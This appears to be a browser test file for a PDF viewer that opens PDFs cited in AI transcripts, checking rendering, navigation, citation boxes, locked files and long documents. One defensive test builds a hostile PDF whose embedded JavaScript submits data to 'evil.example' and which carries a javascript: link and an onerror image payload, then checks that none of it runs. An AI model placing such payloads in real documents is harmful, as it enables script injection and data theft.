// PDFs: opened from a transcript, a citation and a document of the Viewer; drawn page by page, checked against the
// quotation, refused with a reason; their actions are never executed.
import assert from 'node:assert/strict';
import test, { before } from 'node:test';
import { accessible, go, noBrowser, serve, until, visit } from './browser.mjs';
import { makePdf } from './pdfs.mjs';

const skip = noBrowser;
let server;
before(async () => { if (!noBrowser) server = await serve(); });

const report = makePdf([['Revenue increased', 'by 20% YoY.'], ['The second page speaks of costs.']]);
// A conversation with a PDF, and an answer that cites it.
async function cited(location, pdf = report, more = {}) {
  const document = [
    { role: 'user', blocks: [{ type: 'text', content: 'Read this.' }, { type: 'media', content: { kind: 'file', data: pdf.toString('base64'), mime: 'application/pdf', name: 'report.pdf' } }] },
    { role: 'assistant', blocks: [{ type: 'text', content: 'It grew <cite id="c1"/>.' }], metadata: { citation_map: { c1: { source_type: 'pdf_document', source_name: 'report.pdf', location, ...more } } } },
  ];
  return (await server.ask('POST', '/api/sessions/import', { body: { format: 'turns', document } })).json.id;
}
const words = {
  'en-US': { open: 'Open the PDF', at: 'Show page 1 of the PDF', next: 'Next page', previous: 'Previous page', zoomIn: 'Zoom in', fit: 'Fit the width', verified: 'The quoted words stand on page 1.', sources: 'Sources', damaged: 'This PDF is damaged.', wrong: 'This is not its password.', unlock: 'Open' },
  'zh-CN': { open: '打开 PDF', at: '显示 PDF 第 1 页', next: '下一页', previous: '上一页', zoomIn: '放大', fit: '适合宽度', verified: '引文在第 1 页，已核对。', sources: '来源', damaged: '此 PDF 已损坏。', wrong: '密码不正确。', unlock: '打开' },
};
const pages = (page) => page.locator('[data-pdf]');
const drawn = (page, n) => page.locator(`[data-sheet="${n}"] canvas`).waitFor({ state: 'attached' });
const current = (page, n) => page.locator(`[data-pdf][data-current="${n}"]`).waitFor();
// Dark pixels on white: the page was drawn, not only laid out.
const isInked = (page, n) => page.locator(`[data-sheet="${n}"] canvas`).evaluate((canvas) => {
  const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
  for (let i = 0; i < data.length; i += 4) if (data[i + 3] > 200 && data[i] < 100) return true;
  return false;
});

for (const lang of Object.keys(words)) {
  for (const phone of [false, true]) {
    test(`a PDF of a transcript is read with keys: ${lang}, ${phone ? 'phone' : 'desk'}`, { skip }, async () => {
      const say = words[lang];
      const id = await cited({ page_number: 1, bbox: [60, 60, 220, 110], text_snippet: 'Revenue increased by 20% YoY.' });
      const { page, close } = await visit(server, { lang, phone, bypassCSP: false });
      const asked = [];
      page.on('request', (request) => { if (/pdf\.worker|PdfDialog/.test(new URL(request.url()).pathname)) asked.push(request.url()); });
      await go(page, `/s/${id}`);
      await page.getByRole('button', { name: say.open, exact: true }).waitFor();
      assert.deepEqual(asked, [], 'nothing of it is loaded before a PDF is opened');
      await page.getByRole('button', { name: say.open, exact: true }).press('Enter');
      await drawn(page, 1);
      assert.ok(await isInked(page, 1));
      assert.equal(await pages(page).getAttribute('data-pdf'), '2');
      assert.match(await page.locator('[data-sheet="1"] .textLayer').innerText(), /Revenue increased/);
      await page.getByRole('button', { name: say.next }).press('Enter');
      await page.keyboard.press('End');
      await current(page, 2);
      await page.keyboard.press('p');
      await current(page, 1);
      const before = await page.locator('[data-zoom]').innerText();
      await page.keyboard.press('+');
      await until(async () => await page.locator('[data-zoom]').innerText() !== before, () => 'no zoom');
      await page.keyboard.press('0');
      await until(async () => await page.locator('[data-zoom]').innerText() === before, () => 'no fit');
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'no sideways scrolling');
      await accessible(page, `pdf ${lang}`);
      await page.keyboard.press('Escape');
      await pages(page).waitFor({ state: 'detached' });
      await close();
    });
  }

  test(`a citation shows its box and says whether the words are there: ${lang}`, { skip }, async () => {
    const say = words[lang];
    const id = await cited({ page_number: 1, bbox: [60, 60, 220, 110], text_snippet: 'Revenue increased by 20% YoY.' });
    const { page, close } = await visit(server, { lang });
    await go(page, `/s/${id}`);
    await page.locator('.cite').first().click();
    await page.getByRole('button', { name: say.at }).click();
    await page.getByText(say.verified).waitFor();
    await drawn(page, 1);
    // in points from the top left, at the scale of the page
    const [sheet, box] = await Promise.all(['[data-sheet="1"]', '[data-box]'].map((at) => page.locator(at).first().boundingBox()));
    const scale = sheet.width / 300;
    for (const [is, should] of [[box.x - sheet.x, 60], [box.y - sheet.y, 60], [box.width, 160], [box.height, 50]]) assert.ok(Math.abs(is - should * scale) < 4, `${is} is not ${should} × ${scale}`);
    assert.equal(await page.locator('[data-found]').count(), 2, 'both lines are marked');
    await close();
  });

  test(`damaged and locked PDFs say so: ${lang}`, { skip }, async () => {
    const say = words[lang];
    const { page, close } = await visit(server, { lang });
    await go(page, `/s/${await cited({}, Buffer.from('%PDF-1.4\nthis is no PDF'))}`);
    await page.getByRole('button', { name: say.open, exact: true }).click();
    await page.locator('[data-error=pdf_damaged]').getByText(say.damaged).waitFor();
    await accessible(page, `damaged ${lang}`);
    await go(page, `/s/${await cited({}, makePdf([['A secret.']], { password: 'open' }))}`);
    await page.getByRole('button', { name: say.open, exact: true }).click();
    await page.locator('#pdf-password').fill('wrong');
    await page.getByRole('dialog').getByRole('button', { name: say.unlock, exact: true }).click();
    await page.getByText(say.wrong).waitFor();
    await page.locator('#pdf-password').fill('open');
    await page.keyboard.press('Enter');
    await drawn(page, 1);
    assert.match(await page.locator('[data-sheet="1"] .textLayer').innerText(), /A secret/);
    await close();
  });
}

test('words that are elsewhere, nowhere, or in no text are said to be', { skip }, async () => {
  const { page, close } = await visit(server);
  const state = async (location, pdf) => {
    await go(page, `/s/${await cited(location, pdf)}`);
    await page.locator('.cite').first().click();
    await page.getByRole('button', { name: /of the PDF/ }).click();
    await page.locator('[data-cite]:not([data-cite=looking])').waitFor();
    return page.locator('[data-cite]').getAttribute('data-cite');
  };
  assert.equal(await state({ page_number: 1, text_snippet: 'speaks of COSTS' }), 'elsewhere');
  await page.getByRole('button', { name: 'Go to page 2' }).click();
  await current(page, 2);
  assert.equal(await state({ page_number: 1, bbox: [0, 300, 100, 390], text_snippet: 'by 20% YoY' }), 'elsewhere', 'on the page, outside of the box');
  assert.equal(await state({ page_number: 2, text_snippet: 'Profit fell.' }), 'absent');
  await page.getByText('The quoted words are not in the text of this PDF.').waitFor();
  assert.equal(await state({ page_number: 9, text_snippet: 'speaks of costs' }), 'elsewhere');
  await page.getByText('Page 9 is cited, but this PDF has 2 pages.').waitFor();
  assert.equal(await state({ page_number: 1, text_snippet: 'anything' }, makePdf([[]])), 'textless');
  await close();
});

test('of thousands of pages only those in view are drawn', { skip }, async () => {
  const long = makePdf(Array.from({ length: 3000 }, (_, i) => [`Page number ${i + 1}`]));
  const { page, close } = await visit(server);
  await go(page, `/s/${await cited({}, long)}`);
  await page.getByRole('button', { name: 'Open the PDF', exact: true }).click();
  await drawn(page, 1);
  assert.equal(await pages(page).getAttribute('data-pdf'), '3000');
  assert.ok(await page.locator('[data-sheet]').count() < 8);
  await page.getByRole('spinbutton', { name: 'Page' }).fill('2000');
  await page.keyboard.press('Enter');
  await current(page, 2000);
  await drawn(page, 2000);
  assert.match(await page.locator('[data-sheet="2000"] .textLayer').innerText(), /Page number 2000/);
  assert.ok(await page.locator('[data-sheet]').count() < 8);
  await close();
});

test('a hostile PDF does nothing: no script, no link, no request', { skip }, async () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >>';
  const annotation = `<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /Border [0 0 2] /A << /S /URI /URI (javascript:alert\\(1\\)) >> /AA << /O ${script} /E ${script} >> >>`;
  const hostile = makePdf([['<img src=x onerror=alert(1)>']], { action: script, annotation });
  const { page, close } = await visit(server);
  const foreign = [];
  page.on('request', (request) => { if (!request.url().startsWith(server.url)) foreign.push(request.url()); });
  await go(page, `/s/${await cited({}, hostile)}`);
  const before = page.url();
  await page.getByRole('button', { name: 'Open the PDF', exact: true }).click();
  await drawn(page, 1);
  await page.locator('[data-sheet="1"]').click({ position: { x: 40, y: 40 } });
  assert.equal(await page.locator('[data-pdf] a, [data-pdf] img, [data-pdf] iframe, [data-pdf] form').count(), 0);
  assert.match(await page.locator('[data-sheet="1"] .textLayer').innerText(), /<img src=x/);
  assert.equal(page.url(), before);
  assert.deepEqual(foreign, []);
  await close();
});

test('the Viewer opens a PDF whose bytes are in the source; a turned page has its box where it belongs', { skip }, async () => {
  const { page, close } = await visit(server);
  const document = { model: 'claude-sonnet-4-5', max_tokens: 10, messages: [{ role: 'user', content: [
    { type: 'document', title: 'turned.pdf', source: { type: 'base64', media_type: 'application/pdf', data: makePdf([['Turned']], { rotate: 90 }).toString('base64') } },
    { type: 'document', title: 'far', source: { type: 'url', url: 'https://far.example/a.pdf' } }] }] };
  await go(page, '/v');
  await page.locator('input[type=file]').setInputFiles({ name: 'request.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(document)) });
  await page.getByRole('button', { name: 'Fetch the PDF from far.example' }).waitFor();
  await page.getByRole('button', { name: 'Open the PDF', exact: true }).click();
  await drawn(page, 1);
  const box = await page.locator('[data-sheet="1"]').boundingBox();
  assert.ok(box.width > box.height, 'it lies on its side');
  assert.ok(await isInked(page, 1));
  await close();
});
